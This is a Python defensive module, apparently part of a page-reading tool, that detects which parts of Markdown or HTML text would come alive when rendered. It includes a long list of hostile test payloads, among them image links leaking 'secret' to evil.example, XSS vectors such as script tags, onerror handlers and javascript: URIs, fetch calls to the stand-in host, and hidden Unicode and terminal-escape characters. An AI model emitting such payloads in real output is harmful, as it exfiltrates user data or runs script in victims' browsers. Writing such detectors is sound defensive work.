"""What hostile pages, file names and models say, and what a Markdown renderer would bring to life of it."""

from __future__ import annotations

import re

from markdown_it import MarkdownIt

EVIL = "http://evil.example"
PAYLOADS = (
    f"![logo]({EVIL}/leak?q=secret)",
    f"![logo]({EVIL}/leak 'title')",
    f"![]({EVIL}/x.png)",
    f"![a][b]\n\n[b]: {EVIL}/x.png",
    f"[b]: {EVIL}/x.png\n![b]",
    f"[click]({EVIL})",
    f"[click](<{EVIL}>)",
    f"[click]({EVIL} (title))",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](//evil.example/x)",
    f"[![badge]({EVIL}/b.svg)]({EVIL})",
    f"[a\n b]({EVIL})",
    f"[click][1]\n\n[1]: {EVIL}",
    f"[1]\n\n[1]: {EVIL}",
    f"> [quoted]: {EVIL}\n\n[quoted]",
    f"- [listed]: {EVIL}\n\n[listed]",
    f"1. [numbered]: {EVIL}\n\n[numbered]",
    f"   [indented]: <{EVIL}>\n\n[indented]",
    f"[two\nlines]: {EVIL}\n\n[two lines]",
    f"[a\\]b]: {EVIL}\n\n[a\\]b]",
    f"[label]:\n{EVIL}\n\n[label]",
    f"[^1]: {EVIL}\n\n[^1]",
    f"<{EVIL}>",
    "<mailto:a@evil.example>",
    "<javascript:alert(1)>",
    "<5@evil.example>",
    "<.x@evil.example>",
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    f"<img/src='{EVIL}/x.png'>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<a href='{EVIL}'>click</a>",
    "<a href=\"javascript:alert(1)\">click</a>",
    f"<form action='{EVIL}'><button>go</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<style>@import '{EVIL}/x.css';</style>",
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<![CDATA[<img src=x>]]>",
    "</p><b>bold",
    "\\<b>bold</b>",
    f"\\![logo]({EVIL}/x.png)",
    f"\\\\[click]({EVIL})",
    f"]\x00({EVIL}) [click]\x00({EVIL})",
    f"[click]\x1b({EVIL})",
    "<\x08script>alert(1)</script>",
    f"[click]\u202e({EVIL})",
    f"[click]\u0085({EVIL})",
    "```html\n<script>alert(1)</script>\n```",
    f"~~~js\nfetch('{EVIL}')\n~~~",
    f"``` mermaid\nclick A href '{EVIL}'\n```",
    f":::artifact{{type=\"application/vnd.react\"}}\n```\nfetch('{EVIL}')\n```\n:::",
    f"| a | b |\n|---|---|\n| ![x]({EVIL}/x.png) | <b>x</b> |",
    f"# [heading]({EVIL})",
    f"**[bold]({EVIL})** _![em]({EVIL}/x.png)_",
    f"`code` [click]({EVIL})",
    f"[1]({EVIL}) and [1][2]({EVIL})",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x1b[2J\x1b[31mred\x9b31m",
    "\u202egpj.exe",
    "ask\U000e0068\U000e0069dden",
)  # fmt: skip

READABLE = (
    "a < b and x <= 5, p < 0.05; 3 > 2",
    "**bold**, _em_, `x[0]`, 2 * 3 * 4, ~20 degrees, ~~old~~",
    "| part | torque |\n|---|---|\n| M8 | 45 Nm |\n| M10 | 90 Nm |",
    "- one\n- two [1][2], see [3] and [kg]: 5",
    "Weight [kg]: 5 (dry) [2] (page 3)",
    "$E = mc^2$ and \\(x^2\\) and $$\\sum_i x_i$$",
    "see http://docs.example/manual?a=1&b=2 or www.docs.example, mail help@docs.example",
    "```\npagesight ask 'How?'\n```\n\nthen go on",
    "“The housing bolts must be tightened to 45 Nm.” [1]",
    "Ä ß 漢字 שלום مرحبا नमस्ते 12:30 C::D\ttab\n\nnext",
)

_CONTROLS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]"
)
# What a browser, a chat program that runs code, and a directive would take up without Markdown.
_WITHOUT_MARKDOWN = re.compile(r"<[a-zA-Z/!?]|(?:`{3,}|~{3,})[ \t]*[^\s`~]|:::")
_markdown = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_markdown.validateLink = lambda url: True  # type: ignore[method-assign] # not every renderer looks
_LIVE = frozenset({"image", "link_open", "html_inline", "html_block"})


def live_parts(text: str, own_address: str | None = None) -> list[str]:
    """What comes alive in `text` when it is rendered or printed, but for links to `own_address`."""
    live = [match[0] for match in _CONTROLS.finditer(text)]
    live += [match[0] for match in _WITHOUT_MARKDOWN.finditer(text)]
    tokens = _markdown.parse(text)
    tokens += [child for token in tokens for child in token.children or ()]
    for token in tokens:
        target = str(token.attrGet("href") or token.attrGet("src") or token.content)
        is_own = token.type == "link_open" and own_address and target.startswith(own_address)
        if token.type in _LIVE and not is_own:
            live.append(f"{token.type} {target}")
        if token.type == "fence" and token.info.strip():
            live.append(f"fence {token.info}")
    return live
